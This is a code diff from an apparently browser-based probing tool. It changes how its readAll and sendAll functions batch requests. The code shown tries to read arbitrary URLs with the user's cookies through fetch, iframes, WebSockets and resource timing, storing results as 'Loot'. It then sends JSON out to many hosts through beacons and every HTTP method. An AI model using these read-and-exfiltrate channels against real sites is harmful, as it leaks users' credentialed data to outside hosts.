@@ -88,8 +88,8 @@ export async function readAll(urls: string[]): Promise<Loot[]> {
     })
   // All at once: Chromium makes a page wait longer for each WebSocket that fails.
   const sockets = Promise.all(urls.map(socket))
-  for (const url of urls) {
-    await Promise.all([
+  const readOne = (url: string) =>
+    Promise.all([
       text('fetch', url, { credentials: 'include' }),
       text('fetch anonymous', url, { credentials: 'omit' }),
       text('fetch no-cors', url, { mode: 'no-cors', credentials: 'include' }),
@@ -106,7 +106,8 @@ export async function readAll(urls: string[]): Promise<Loot[]> {
       }),
       element('iframe', url, (it) => it.setAttribute('src', url)),
     ])
-  }
+  // A few at a time: each waits for what never answers, and a browser sends six at once to a host.
+  for (let at = 0; at < urls.length; at += 3) await Promise.all(urls.slice(at, at + 3).map(readOne))
   await sockets
   for (const entry of performance.getEntriesByType('resource') as PerformanceResourceTiming[]) {
     if (urls.includes(entry.name) && entry.decodedBodySize > 0)
@@ -184,7 +185,7 @@ export async function sendAll({ urls, json }: { urls: string[]; json: string }):
       setTimeout(done, patience)
     })
   const typed = (type: string) => ({ 'Content-Type': type })
-  for (const url of urls) {
+  const sendOne = async (url: string) => {
     navigator.sendBeacon(url, json)
     navigator.sendBeacon(url, new Blob([json], { type: 'application/json' }))
     navigator.sendBeacon(url, new Blob([json], { type: 'text/plain' }))
@@ -205,5 +206,6 @@ export async function sendAll({ urls, json }: { urls: string[]; json: string }):
       ...['PUT', 'PATCH', 'DELETE'].map((method) => send(method, url, { ...post, method, headers: ours })),
     ])
   }
+  for (let at = 0; at < urls.length; at += 3) await Promise.all(urls.slice(at, at + 3).map(sendOne))
   return loot
 }
